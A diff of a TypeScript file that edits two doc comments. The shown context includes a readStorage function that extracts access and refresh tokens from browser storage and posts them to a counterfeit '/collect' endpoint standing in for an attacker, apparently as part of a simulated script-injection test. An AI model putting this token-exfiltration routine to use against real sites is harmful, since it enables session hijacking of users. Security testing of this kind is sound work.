@@ -24,7 +24,7 @@ export interface Page {
   lane: 'client' | 'browser';
   /** The texts in `localStorage` and `sessionStorage`. */
   stored(): string[];
-  /** What the page does for a person, and a script does, too. */
+  /** The call that the page makes for a person, and that a script can make, too. */
   call(): Promise<void>;
 }
 
@@ -83,7 +83,7 @@ function tokenIn(texts: readonly string[]): { access?: string; refresh?: string 
   return found;
 }
 
-/** The script reads the storage and sends the attacker what it finds, who uses it. */
+/** The script reads the storage and sends what it finds to the attacker, who uses it. */
 export async function readStorage({ run, lane, stored }: Page): Promise<void> {
   const { access, refresh } = tokenIn(stored());
   const { method, url, headers, body } = formMessage(`${run.origin}${COUNTERFEIT}/collect`, {
